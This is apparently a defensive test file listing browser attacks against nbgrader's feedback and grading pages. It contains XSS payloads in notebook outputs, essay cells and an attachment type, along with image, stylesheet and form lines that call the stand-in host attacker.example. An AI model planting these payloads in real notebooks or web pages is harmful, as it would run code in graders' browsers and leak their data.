"""Feedback and the formgrader's page: what would run, or call home, in the browser of whoever opens it."""

import base64
from typing import Any

from tests.attacks.attack import SECRET, Attack, active

SVG = "<svg><animate onbegin=attack('svg') attributeName=x dur=1s></svg>"


def display(**data: str) -> str:
    named = {name.replace("__", "/"): value for name, value in data.items()}
    return f"from IPython.display import publish_display_data\n\npublish_display_data({named!r})"


def essay(text: str) -> dict[str, str]:
    return {"t7_essay": text}


def attachment(book: dict[str, Any]) -> None:
    """A picture whose type ends the attribute it is written into."""
    data = base64.b64encode(b"picture").decode()
    cell = next(
        one for one in book["cells"] if one["metadata"].get("nbgrader", {}).get("grade_id") == "t7_essay"
    )
    cell["source"] = ["![图](attachment:a.png)"]
    cell["attachments"] = {"a.png": {"image/png\" onerror=\"attack('attachment')": data}}


ATTACKS = [
    Attack(name="script_in_an_output", boundary="feedback", won=active("attack('output')"),
           first=display(text__html="<script>attack('output')</script>")),
    Attack(name="handler_in_a_text", boundary="feedback", won=active("attack('text')"),
           cells=essay("<img src=x onerror=\"attack('text')\">")),
    Attack(name="link_that_runs", boundary="feedback", won=active("javascript:attack"),
           cells=essay("<a href=\"javascript:attack('link')\">看这里</a>")),
    Attack(name="script_as_output_type", boundary="feedback", won=active("attack('type')"),
           first=display(application__javascript="attack('type')")),
    Attack(name="script_in_a_picture", boundary="feedback", won=active("attack('svg')"),
           first=display(text__html=SVG)),
    Attack(name="page_in_a_frame", boundary="feedback", won=active("attack('frame')"),
           first=display(text__html="<iframe srcdoc=\"<script>attack('frame')</script>\"></iframe>")),
    Attack(name="picture_that_calls_home", boundary="feedback", won=active("attacker.example/pixel"),
           cells=essay("![](https://attacker.example/pixel?who=teacher)")),
    Attack(name="style_that_calls_home", boundary="feedback", won=active("attacker.example/font"),
           first=display(text__html="<style>@import url(https://attacker.example/font)</style>")),
    Attack(name="form_over_the_page", boundary="feedback", won=active("attacker.example/login"),
           first=display(text__html="<form action='https://attacker.example/login'><input></form>")),
    Attack(name="attachment_breaks_out", boundary="feedback", change=attachment,
           won=active("attack('attachment')")),
    Attack(name="checks_in_the_feedback", boundary="feedback", won=lambda seen: SECRET in seen.page),
]  # fmt: skip
